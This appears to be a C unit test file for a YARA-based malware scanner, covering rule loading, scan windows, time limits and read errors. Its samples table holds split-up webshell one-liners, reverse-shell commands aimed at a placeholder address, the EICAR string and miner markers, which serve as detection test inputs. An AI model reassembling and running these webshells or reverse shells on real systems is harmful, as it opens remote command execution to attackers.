/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Which rule files count, what do they find, and does a scan stop in time?
 *
 * Samples are put together at run time from halves: nothing in the repository
 * or in this program matches a rule.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "budget.h"
#include "engine.h"
#include "finding.h"
#include "limits.h"
#include "ruleset.h"

#define SECOND (1000 * BUDGET_MS)

static char folder[64];
static char said[2048];

static void complain(void *context, const char *text)
{
	size_t n = strlen(said);

	snprintf(said + n, sizeof(said) - n, "%s\n", text);
}

static int make_folder(void **state)
{
	snprintf(folder, sizeof(folder), "/tmp/test_scan_XXXXXX");
	said[0] = '\0';
	return mkdtemp(folder) == NULL;
}

static int remove_folder(void **state)
{
	struct dirent *entry;
	DIR *dir = opendir(folder);

	while (dir != NULL && (entry = readdir(dir)) != NULL) {
		unlinkat(dirfd(dir), entry->d_name, 0);
	}
	if (dir != NULL) {
		closedir(dir);
	}
	return rmdir(folder);
}

static void write_rule(const char *name, const char *text)
{
	char path[128];
	FILE *file;

	snprintf(path, sizeof(path), "%s/%s", folder, name);
	file = fopen(path, "w");
	assert_non_null(file);
	fputs(text, file);
	fclose(file);
}

static int load(const char *path, struct ruleset *ret_set)
{
	int fd = open(path, O_RDONLY | O_DIRECTORY);
	int result;

	assert_true(fd >= 0);
	result = ruleset_load(fd, complain, NULL, ret_set);
	close(fd);
	return result;
}

static const char *shipped(void)
{
	static char path[1024];

	snprintf(path, sizeof(path), "%s/products/scan/rules",
		 getenv("SOURCE"));
	return path;
}

/* A file in memory: `size` bytes of filler with `text` at `at`. */
struct sample {
	const char *text;
	uint64_t at, size;
	unsigned sleep_us;
	uint64_t reads;
	uint64_t fail_at;
};

static int read_sample(void *context, uint64_t offset, void *buffer,
		       size_t size)
{
	struct sample *sample = context;
	uint64_t left = offset < sample->size ? sample->size - offset : 0;
	size_t n = left < size ? (size_t)left : size;

	sample->reads++;
	if (sample->fail_at != 0 && offset + n > sample->fail_at) {
		return -EIO;
	}
	usleep(sample->sleep_us);
	memset(buffer, ' ', n);
	for (size_t i = 0; i < strlen(sample->text); i++) {
		uint64_t byte = sample->at + i;

		if (byte >= offset && byte < offset + n) {
			((char *)buffer)[byte - offset] = sample->text[i];
		}
	}
	return (int)n;
}

static struct ruleset set;
static struct engine engine;

static void use(const char *path)
{
	assert_int_equal(load(path, &set), 0);
	assert_int_equal(engine_init(&engine, set.rules), 0);
}

static void release(void)
{
	engine_fini(&engine);
	ruleset_fini(&set);
}

static int scan(struct sample *sample, enum plan_kind plan, uint64_t limit,
		struct bailey_finding *ret_finding)
{
	struct scan_source source = { .read = read_sample, .context = sample,
				      .size = sample->size };

	return engine_scan(&engine, &source, plan, limit, ret_finding);
}

static const char *name_of(const char *text)
{
	static struct bailey_finding finding;
	struct sample sample = { .text = text, .size = strlen(text) };
	int result = scan(&sample, PLAN_QUICK, 10 * SECOND, &finding);

	assert_true(result >= 0);
	return result == ENGINE_FOUND ? finding.rule : "";
}

#define GOOD "rule good { strings: $a = \"needle\" condition: $a }\n"

static void a_broken_file_is_named_and_the_rest_counts(void **state)
{
	write_rule("a.yar", GOOD);
	write_rule("b.yar", "rule ok { condition: false }\n\nrule bad {\n"
		   "  condition: nonsense\n}\n");
	write_rule("c.yar", GOOD);
	write_rule("notes.txt", "not a rule");
	use(folder);
	assert_int_equal(set.files, 2);
	assert_int_equal(set.broken, 1);
	assert_int_equal(set.count, 2);
	assert_non_null(strstr(said, "b.yar:4: undefined identifier"));
	assert_null(strstr(said, "a.yar"));
	assert_string_equal(name_of("hay needle hay"), "good");
	assert_string_equal(name_of("hay hay"), "");
	release();
}

static void a_folder_without_a_usable_file_is_refused(void **state)
{
	struct ruleset untouched = { .files = 77 };

	assert_int_equal(load(folder, &untouched), -ENOENT);
	write_rule("a.yar", "rule {");
	write_rule("empty.yar", "");
	assert_int_equal(load(folder, &untouched), -ENOENT);
	assert_int_equal(untouched.files, 77);
	assert_non_null(strstr(said, "a.yar:1: "));
	assert_non_null(strstr(said, "empty.yar:0: "));
}

static void links_fifos_and_includes_are_not_followed(void **state)
{
	char path[128];

	write_rule("good.yar", GOOD);
	write_rule("include.yar", "include \"good.yar\"\n" GOOD);
	snprintf(path, sizeof(path), "%s/link.yar", folder);
	assert_int_equal(symlink("good.yar", path), 0);
	snprintf(path, sizeof(path), "%s/fifo.yar", folder);
	assert_int_equal(mkfifo(path, 0600), 0);
	use(folder);
	assert_int_equal(set.files, 1);
	assert_int_equal(set.broken, 3);
	assert_non_null(strstr(said, "include.yar:1: "));
	assert_non_null(strstr(said, "link.yar:0: "));
	assert_non_null(strstr(said, "fifo.yar:0: "));
	release();
}

static void binary_garbage_is_only_a_broken_file(void **state)
{
	char garbage[4096];

	for (size_t i = 0; i < sizeof(garbage) - 1; i++) {
		garbage[i] = (char)(1 + i * 2654435761u % 255);
	}
	garbage[sizeof(garbage) - 1] = '\0';
	write_rule("garbage.yar", garbage);
	write_rule("good.yar", GOOD);
	use(folder);
	assert_int_equal(set.files, 1);
	release();
}

static void meta_becomes_a_finding(void **state)
{
	struct sample sample = { .text = "xyz", .size = 3 };
	struct bailey_finding f;

	write_rule("a.yar",
		   "rule low { meta: severity = 10 condition: true }\n"
		   "rule high { meta: title = \"A title\" severity = 400 "
		   "confidence = -3 technique = \"T1059.004.too.long.by.far\" "
		   "condition: true }\n"
		   "rule plain { meta: severity = \"no\" condition: true }\n");
	use(folder);
	assert_int_equal(scan(&sample, PLAN_QUICK, SECOND, &f), ENGINE_FOUND);
	assert_string_equal(f.rule, "high");
	assert_string_equal(f.title, "A title");
	assert_int_equal(f.severity, 100);
	assert_int_equal(f.confidence, 0);
	assert_int_equal(strlen(f.technique), sizeof(f.technique) - 1);
	assert_int_equal(f.size, sizeof(f));
	assert_true(finding_denies(&f));
	f.severity = SCAN_DENY_SEVERITY - 1;
	assert_false(finding_denies(&f));
	release();
}

static void edges_are_scanned_at_once_and_the_middle_later(void **state)
{
	struct sample sample = { .text = "needle", .size = 40u << 20 };
	struct bailey_finding f;

	write_rule("a.yar", "rule good { strings: $a = \"needle\" condition: "
		   "$a and filesize == 41943040 and uint8(0) == 0x20 }\n");
	use(folder);
	sample.at = 1000;
	assert_int_equal(scan(&sample, PLAN_QUICK, 10 * SECOND, &f),
			 ENGINE_FOUND);
	sample.at = sample.size - 6;
	assert_int_equal(scan(&sample, PLAN_QUICK, 10 * SECOND, &f),
			 ENGINE_FOUND);
	sample.at = 20u << 20;
	assert_int_equal(scan(&sample, PLAN_QUICK, 10 * SECOND, &f), 0);
	assert_int_equal(scan(&sample, PLAN_THOROUGH, 60 * SECOND, &f),
			 ENGINE_FOUND);
	/* Across the border of two windows. */
	sample.at = SCAN_BUFFER - 3;
	assert_int_equal(scan(&sample, PLAN_THOROUGH, 60 * SECOND, &f),
			 ENGINE_FOUND);
	release();
}

static void a_small_file_is_read_once(void **state)
{
	struct sample sample = { .text = "needle", .size = 1000 };
	struct bailey_finding f;

	write_rule("a.yar", "rule a { condition: uint16(0) == 0x656e and "
		   "uint16(2) == 0x6465 and uint8(5) == 0x65 }\n");
	use(folder);
	assert_int_equal(scan(&sample, PLAN_QUICK, SECOND, &f), ENGINE_FOUND);
	assert_int_equal(sample.reads, 1);
	release();
}

static void a_scan_ends_within_milliseconds_of_its_limit(void **state)
{
	/* 32 reads of 10 ms each, and a condition that takes seconds. */
	struct sample slow = { .text = "", .size = SCAN_BUFFER,
			       .sleep_us = 10000 };
	struct sample fast = { .text = "", .size = SCAN_BUFFER };
	struct bailey_finding f = { .severity = 7 };
	uint64_t began, took;

	write_rule("a.yar", "rule a { condition: for all i in "
		   "(0..1000000000) : (uint8(i % filesize) == 0x20) }\n");
	use(folder);
	began = budget_now();
	assert_int_equal(scan(&slow, PLAN_QUICK, 50 * BUDGET_MS, &f),
			 -ETIMEDOUT);
	took = budget_now() - began;
	assert_true(took >= 40 * BUDGET_MS && took < 250 * BUDGET_MS);
	began = budget_now();
	assert_int_equal(scan(&fast, PLAN_QUICK, 50 * BUDGET_MS, &f),
			 -ETIMEDOUT);
	took = budget_now() - began;
	assert_true(took >= 49 * BUDGET_MS && took < 250 * BUDGET_MS);
	assert_int_equal(f.severity, 7);
	release();
}

static void a_read_error_is_no_verdict(void **state)
{
	struct sample sample = { .text = "", .size = 1u << 20,
				 .fail_at = 600000 };
	struct bailey_finding f;

	/* Would match by the absence of something. */
	write_rule("a.yar", "rule a { strings: $a = \"needle\" condition: "
		   "not $a }\n");
	use(folder);
	assert_int_equal(scan(&sample, PLAN_QUICK, SECOND, &f), -EIO);
	sample.fail_at = 0;
	assert_int_equal(scan(&sample, PLAN_QUICK, SECOND, &f), ENGINE_FOUND);
	release();
}

static void a_file_that_shrinks_is_scanned_as_it_is(void **state)
{
	struct sample sample = { .text = "needle", .size = 100 };
	struct scan_source source = { .read = read_sample, .context = &sample,
				      .size = 5000 };
	struct bailey_finding f;

	write_rule("good.yar", GOOD);
	use(folder);
	assert_int_equal(engine_scan(&engine, &source, PLAN_QUICK, SECOND,
				     &f), ENGINE_FOUND);
	sample.size = 0;
	assert_int_equal(engine_scan(&engine, &source, PLAN_QUICK, SECOND,
				     &f), 0);
	release();
}

/* Two halves and the rule that must find them joined; "" for none. */
static const struct {
	const char *rule, *head, *tail;
} samples[] = {
	{ "eicar_test_file", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD",
	  "-ANTIVIRUS-TEST-FILE!$H+H*" },
	{ "eicar_test_file", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD",
	  "-ANTIVIRUS-TEST-FILE!$H+H*\r\n" },
	{ "", "EICAR-STANDARD", "-ANTIVIRUS-TEST-FILE!" },
	{ "webshell_php_eval_request", "<?php @ev",
	  "al($_POST['x']); ?>" },
	{ "webshell_php_eval_request", "<?php ev",
	  "al(base64_decode($_REQUEST[\"c\"]));" },
	{ "webshell_php_run_request", "<?php echo shell_",
	  "exec($_GET['cmd']); ?>" },
	{ "webshell_php_run_request", "<?= sys", "tem($_GET{0}) ?>" },
	{ "", "<?php echo htmlspecialchars(", "$_GET['q']); ?>" },
	{ "", "<?php $this->sys", "tem($_POST['name']); ?>" },
	{ "webshell_jsp_run_request", "<% Runtime.getRun",
	  "time().exec(request.getParameter(\"c\")); %>" },
	{ "webshell_asp_eval_request", "<%ev", "al request(\"c\")%>" },
	{ "reverse_shell_dev_tcp", "#!/bin/bash\nbash -i >& /dev/",
	  "tcp/192.0.2.1/4444 0>&1\n" },
	{ "reverse_shell_dev_tcp", "#!/bin/sh\nexec 5<>/dev/",
	  "tcp/192.0.2.1/443; sh <&5 >&5\n" },
	{ "reverse_shell_netcat", "* * * * * root nc -e /bin/",
	  "sh 192.0.2.1 4444\n" },
	{ "reverse_shell_netcat", "ncat 192.0.2.1 4444 -e /bin/", "bash\n" },
	{ "reverse_shell_netcat", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | "
	  "sh -i 2>&1 ", "| nc 192.0.2.1 4444 > /tmp/f\n" },
	{ "", "#!/bin/sh\nnc -z localhost 22 ", "&& echo open\n" },
	{ "", "#!/bin/sh\nrsync -e ssh /bin/", "sh host:\n" },
	{ "reverse_shell_interpreter", "import os,pty,socket\n"
	  "os.dup2(s.fil", "eno(),0)\npty.spawn(\"/bin/sh\")\n" },
	{ "", "import os\nos.dup2(log.fil", "eno(), 1)\n" },
	{ "elf_packed_upx", "\177ELF....UPX!....$Info: This file is packed ",
	  "with the UPX executable packer" },
	{ "elf_packed_upx_tampered", "\177ELF....PROT_EXEC|",
	  "PROT_WRITE failed.\n" },
	{ "miner_program", "\177ELF stratum+tcp://pool --donate-level "
	  "--coin=", " randomx" },
	{ "", "\177ELF stratum+tcp", "://pool randomx" },
};

static void shipped_rules_find_their_samples(void **state)
{
	char text[512];

	use(shipped());
	assert_string_equal(said, "");
	assert_int_equal(set.broken, 0);
	for (size_t i = 0; i < sizeof(samples) / sizeof(*samples); i++) {
		snprintf(text, sizeof(text), "%s%s", samples[i].head,
			 samples[i].tail);
		if (strcmp(name_of(text), samples[i].rule) != 0) {
			fail_msg("sample %zu: '%s', not '%s'", i,
				 name_of(text), samples[i].rule);
		}
	}
	release();
}

static int read_fd(void *context, uint64_t offset, void *buffer, size_t size)
{
	ssize_t n = pread(*(int *)context, buffer, size, (off_t)offset);

	return n < 0 ? -errno : (int)n;
}

/* Scans the files of one folder; returns how many. */
static unsigned scan_folder(const char *path, unsigned most)
{
	struct bailey_finding f;
	struct dirent *entry;
	unsigned files = 0;
	struct stat st;
	DIR *dir = opendir(path);

	while (dir != NULL && files < most &&
	       (entry = readdir(dir)) != NULL) {
		int fd = openat(dirfd(dir), entry->d_name,
				O_RDONLY | O_NONBLOCK);
		struct scan_source source = { .read = read_fd,
					      .context = &fd };

		if (fd >= 0 && fstat(fd, &st) == 0 && S_ISREG(st.st_mode) &&
		    st.st_size < (4 << 20)) {
			source.size = (uint64_t)st.st_size;
			if (engine_scan(&engine, &source, PLAN_QUICK,
					10 * SECOND, &f) == ENGINE_FOUND) {
				fail_msg("%s/%s: %s", path, entry->d_name,
					 f.rule);
			}
			files++;
		}
		if (fd >= 0) {
			close(fd);
		}
	}
	if (dir != NULL) {
		closedir(dir);
	}
	return files;
}

/* No scanner trips over this repository, nor ours over an honest system. */
static void nothing_honest_matches(void **state)
{
	char path[1100];

	use(shipped());
	assert_true(scan_folder(shipped(), 100) >= 4);
	snprintf(path, sizeof(path), "%s/tests/unit", getenv("SOURCE"));
	assert_true(scan_folder(path, 1000) > 0);
	snprintf(path, sizeof(path), "%s/products/scan", getenv("SOURCE"));
	assert_true(scan_folder(path, 1000) > 0);
	assert_true(scan_folder("/usr/bin", 400) > 0);
	assert_true(scan_folder("/etc", 400) > 0);
	release();
}

static int start_yara(void **state)
{
	return yr_initialize();
}

static int end_yara(void **state)
{
	return yr_finalize();
}

#define T(name) cmocka_unit_test_setup_teardown(name, make_folder, \
						remove_folder)

int main(void)
{
	const struct CMUnitTest tests[] = {
		T(a_broken_file_is_named_and_the_rest_counts),
		T(a_folder_without_a_usable_file_is_refused),
		T(links_fifos_and_includes_are_not_followed),
		T(binary_garbage_is_only_a_broken_file),
		T(meta_becomes_a_finding),
		T(edges_are_scanned_at_once_and_the_middle_later),
		T(a_small_file_is_read_once),
		T(a_scan_ends_within_milliseconds_of_its_limit),
		T(a_read_error_is_no_verdict),
		T(a_file_that_shrinks_is_scanned_as_it_is),
		T(shipped_rules_find_their_samples),
		T(nothing_honest_matches),
	};

	return cmocka_run_group_tests(tests, start_yara, end_yara);
}
